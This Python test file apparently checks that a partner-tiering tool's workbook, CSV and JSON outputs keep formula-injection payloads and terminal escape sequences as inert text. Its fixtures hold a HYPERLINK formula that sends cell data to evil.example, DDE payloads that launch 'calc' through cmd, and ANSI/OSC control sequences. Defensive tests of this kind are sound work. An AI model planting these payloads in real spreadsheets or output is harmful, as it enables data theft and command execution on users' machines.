"""No formula injection anywhere: partner names and notes that a spreadsheet would run
("=", "+", "-", "@", tab, carriage return) stay text in every output Tierwise writes.

The annotated workbook stores them as strings (never an <f> element); the CSV puts an
apostrophe before them (OWASP); the JSON keeps them as JSON strings.
"""

from __future__ import annotations

import csv
import io
import json
import re
from datetime import date, datetime
from pathlib import Path

import openpyxl
import polars as pl
import pytest

from tests.helpers_workbooks import column_of, run_cli, sheet_cells
from tierwise.io.columns import LOG_SHEET, PORTFOLIO_SHEET, PREFIX, SETUP_SHEET
from tierwise.io.log import LogEntry
from tierwise.io.reader import read_tracker
from tierwise.pipeline import evaluate

AS_OF = date(2026, 10, 31)
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
CALC = "cmd|' /C calc'!A0"
PAYLOADS = [
    '=HYPERLINK("http://evil.example/?d="&A1,"Acme")',
    f"+1+{CALC}",
    f"-2+3+{CALC}",
    "@SUM(1+1)*" + CALC,
    "\t=1+1",
    "\r=2+2",
]
TIERS = ["Strategic", "Strategic", "Tactical", "Tactical", "Casual", "Casual"]
HEADERS = ["Partner", "Tier", "Type", "Objective", "Pipeline", "Closed Revenue", "Notes"]


def text_cell(ws, ref: str, value: str) -> None:
    # openpyxl turns any str starting with "=" into a formula; the user typed text.
    ws[ref] = value
    ws[ref].data_type = "s"


@pytest.fixture
def hostile(tmp_path: Path) -> Path:
    wb = openpyxl.Workbook()
    ws = wb.active
    ws.title = "Partners"
    ws.append(HEADERS)
    for i, (payload, tier) in enumerate(zip(PAYLOADS, TIERS, strict=True), start=2):
        ws.append([None, tier, "isv", None, 100_000 * i, 10_000 * i, None])
        text_cell(ws, f"A{i}", payload)
        text_cell(ws, f"D{i}", payload)  # objective: may be quoted in the reasons
        text_cell(ws, f"G{i}", payload)
    path = tmp_path / "hostile.xlsx"
    wb.save(path)
    return path


def starts_like_formula(text: str) -> bool:
    return text.startswith(FORMULA_START)


@pytest.fixture
def annotated(hostile: Path, tmp_path: Path) -> Path:
    """The hostile tracker written back with hostile decision notes and log entries."""
    from tierwise.outputs import write_annotated

    ev = evaluate(hostile, as_of=AS_OF)
    rows = ev.scored.partners["row"].to_list()
    assert len(rows) == len(PAYLOADS)
    decisions = pl.DataFrame(
        {
            "row": rows,
            "decision": ["casual"] * len(rows),
            "decision_note": [PAYLOADS[(r - 2) % len(PAYLOADS)] for r in rows],
        },
        schema={"row": pl.Int64, "decision": pl.String, "decision_note": pl.String},
    )
    log = [
        LogEntry(datetime(2026, 10, 31, 12, 0), "=WHO()", p, r, "strategic", "casual", p)
        for p, r in zip(PAYLOADS, sorted(rows), strict=True)
    ]
    out = tmp_path / "hostile.tierwise.xlsx"
    write_annotated(ev, out, decisions=decisions, log=log)
    return out


def tierwise_columns(path: Path) -> set[int]:
    ws = openpyxl.load_workbook(path)["Partners"]
    return {c.column for c in ws[1] if isinstance(c.value, str) and c.value.startswith(PREFIX)}


def test_annotated_workbook_writes_no_formula_anywhere(annotated: Path) -> None:
    ours = tierwise_columns(annotated)
    assert len(ours) >= 10
    partner_cells = sheet_cells(annotated, "Partners")
    written = [c for ref, c in partner_cells.items() if column_of(ref) in ours]
    assert len(written) >= len(ours) * (len(PAYLOADS) + 1)
    for sheet in (PORTFOLIO_SHEET, LOG_SHEET, SETUP_SHEET):
        cells = sheet_cells(annotated, sheet)
        assert cells, sheet
        written.extend(cells.values())
    # The user's own cells were text too, and must still be.
    written.extend(partner_cells.values())
    with_formula = [c.get("r") for c in written if any(e.tag.endswith("}f") for e in c)]
    assert with_formula == []


def test_annotated_workbook_reads_back_as_text(annotated: Path) -> None:
    wb = openpyxl.load_workbook(annotated)
    ours = tierwise_columns(annotated)
    cells = [c for row in wb["Partners"].iter_rows() for c in row if c.column in ours]
    cells += [c for name in (PORTFOLIO_SHEET, LOG_SHEET) for row in wb[name] for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    texts = [c.value for c in cells if isinstance(c.value, str)]
    # Every hostile note and partner name is in there, as the text it was.
    log = wb[LOG_SHEET]
    logged = [str(c.value) for row in log.iter_rows(min_row=2) for c in row if c.value is not None]
    for payload in PAYLOADS:
        clean = payload.strip()
        assert any(clean in t.replace("_x000D_", "\r") for t in texts), payload
        assert any(clean in t for t in logged), payload
    assert "=WHO()" in logged


def test_hostile_notes_survive_a_round_trip_as_notes(annotated: Path) -> None:
    decisions = read_tracker(annotated).decisions
    notes = {n.strip() for n in decisions["decision_note"].to_list()}
    assert notes == {p.strip() for p in PAYLOADS}


def test_csv_neutralises_every_formula_start(annotated: Path, tmp_path: Path) -> None:
    out = tmp_path / "partners.csv"
    result = run_cli(
        "score", str(annotated), "--format", "csv", "-o", str(out), "--as-of", "2026-10-31"
    )
    assert result.exit_code == 0, result.output
    text = out.read_bytes().decode("utf-8-sig")
    rows = list(csv.DictReader(io.StringIO(text, newline="")))
    assert len(rows) == len(PAYLOADS)
    texts = ["partner", "why", "flags", "decision_note", "action", "recommended_tier"]
    for row in rows:
        for name in texts:
            value = row[name]
            assert not starts_like_formula(value), (name, value)
    names = {r["partner"] for r in rows}
    notes = {r["decision_note"] for r in rows}
    for payload in PAYLOADS:
        assert "'" + payload.strip() in names, payload
        assert "'" + payload.strip() in notes, payload


def test_json_keeps_hostile_text_as_strings(annotated: Path, tmp_path: Path) -> None:
    result = run_cli("score", str(annotated), "--json", "--as-of", "2026-10-31")
    assert result.exit_code == 0, result.stderr
    doc = json.loads(result.stdout)
    out = tmp_path / "result.json"
    assert run_cli("score", str(annotated), "--format", "json", "-o", str(out)).exit_code == 0
    for d in (doc, json.loads(out.read_text("utf-8"))):
        partners = d["partners"]
        assert {p["partner"].strip() for p in partners} == {p.strip() for p in PAYLOADS}
        for p in partners:
            assert isinstance(p["partner"], str) and isinstance(p["decision_note"], str)
            assert all(isinstance(w, str) for w in p["why"])


def test_scoring_a_hostile_tracker_from_the_cli_writes_no_formula(
    hostile: Path, tmp_path: Path
) -> None:
    out = tmp_path / "cli.xlsx"
    result = run_cli("score", str(hostile), "-o", str(out), "-q", "--as-of", "2026-10-31")
    assert result.exit_code == 0, result.output
    cells = [*sheet_cells(out, "Partners").values(), *sheet_cells(out, PORTFOLIO_SHEET).values()]
    assert not [c.get("r") for c in cells if any(e.tag.endswith("}f") for e in c)]


# --- terminal escapes: cell text never drives the user's terminal ------------------------

ESCAPES = "Evil_x001B_]0;pwned_x0007__x001B_[2J_x009B_31m Co"


@pytest.fixture
def escapes(tmp_path: Path) -> Path:
    from tests.helpers_workbooks import rewrite_parts, tracker

    base = tracker(tmp_path / "base.xlsx")
    # OOXML's _xHHHH_ escape: how a real workbook carries control characters.
    return rewrite_parts(
        base,
        tmp_path / "escapes.xlsx",
        {
            "xl/worksheets/sheet1.xml": lambda d: d.replace(
                b"<t>Acme Analytics</t>", f"<t>{ESCAPES}</t>".encode()
            ).replace(b"<t>Notes</t>", b"<t>Memo_x001B_]0;x_x0007_</t>")
        },
    )


def controls(text: str) -> list[str]:
    """Control characters, but for the colour sequences the reports use themselves."""
    text = re.sub("\x1b\\[[0-9;]*m", "", text)
    return [c for c in text if (ord(c) < 32 and c not in "\n\t") or 0x7F <= ord(c) < 0xA0]


def test_reports_print_no_control_characters(escapes: Path, tmp_path: Path) -> None:
    assert "\x1b" in read_tracker(escapes).frame["partner"].to_list()[0]  # they are in the data
    runs = [
        run_cli("score", str(escapes), "-o", str(tmp_path / "o.xlsx"), "--as-of", "2026-10-31"),
        run_cli("inspect", str(escapes)),
    ]
    for result in runs:
        assert result.exit_code == 0, result.output
        assert "Evil" in result.output or "Memo" in result.output
        assert controls(result.output) == [], result.output


def test_json_keeps_control_characters_as_escapes(escapes: Path) -> None:
    result = run_cli("score", str(escapes), "--json", "--as-of", "2026-10-31")
    assert result.exit_code == 0, result.stderr
    assert controls(result.stdout) == []
    names = [p["partner"] for p in json.loads(result.stdout)["partners"]]
    assert any(n.startswith("Evil\x1b]0;pwned\x07") and "\x9b" in n for n in names), names
